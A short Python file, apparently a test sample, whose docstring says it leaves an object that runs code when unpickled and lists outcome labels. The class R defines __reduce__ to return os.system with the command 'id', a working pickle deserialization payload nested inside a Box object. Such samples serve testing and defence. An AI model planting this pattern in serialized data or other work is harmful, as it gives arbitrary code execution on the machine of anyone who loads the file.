"""Leave an object that runs code when unpickled.

outcome: ran|crashed|out_of_memory
stopped by: principle
"""

import os


class R:
    def __reduce__(self):
        return os.system, ("id",)


class Box:
    grad = R()


x = Box()
